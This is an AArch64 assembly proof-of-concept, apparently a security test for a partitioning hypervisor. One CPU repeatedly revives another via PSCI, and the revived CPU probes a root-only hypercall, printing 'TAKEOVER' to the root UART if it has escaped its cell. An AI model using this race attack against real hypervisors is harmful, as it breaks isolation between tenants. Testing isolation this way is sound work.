/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Both CPUs run with their MMU off and without a stack.
 */
#include "attack_revive.h"

#define PSCI_CPU_ON		0xc4000003
#define PSCI_AFFINITY_INFO	0xc4000004
#define HC_CELL_GET_STATE	6
#define HYPERCALL		0x4a48
#define NOTHING			0x50000000
#define ROOT_UART		0x09000000

	.macro	parameters reg
	adrp	\reg, revive
	add	\reg, \reg, :lo12:revive
	.endm

	.text
/* The second CPU */
	.global	reviver_entry
reviver_entry:
	parameters x19
	ldr	x20, [x19, #REVIVE_VICTIM]
	ldr	x21, [x19, #REVIVE_DELAY]
1:	ldr	w0, =PSCI_AFFINITY_INFO
	mov	x1, x20
	mov	x2, #0
	smc	#0
	cbz	x0, 1b			/* it is on */
	mov	x22, x21
2:	cbz	x22, 3f
	sub	x22, x22, #1
	b	2b
3:	ldr	w0, =PSCI_CPU_ON
	mov	x1, x20
	adr	x2, victim_entry
	mov	x3, #0
	smc	#0
	b	1b

/* The first CPU, each time it is switched on: get_state is refused to a cell, and allowed to the root cell */
victim_entry:
	parameters x19
	ldr	x20, [x19, #REVIVE_FAIL]
4:	mov	x0, #HC_CELL_GET_STATE
	mov	x1, #0
	mov	x2, #0
	hvc	#HYPERCALL
	cmn	x0, #1
	b.ne	5f
	cbz	x20, 4b
	mov	x0, #NOTHING
	ldr	x1, [x0]
	b	4b
5:	mov	x10, #ROOT_UART
6:	adr	x9, taken_over
7:	ldrb	w5, [x9], #1
	cbz	w5, 6b
	str	w5, [x10]
	b	7b
	.ltorg
taken_over:
	.asciz	"TAKEOVER\n"
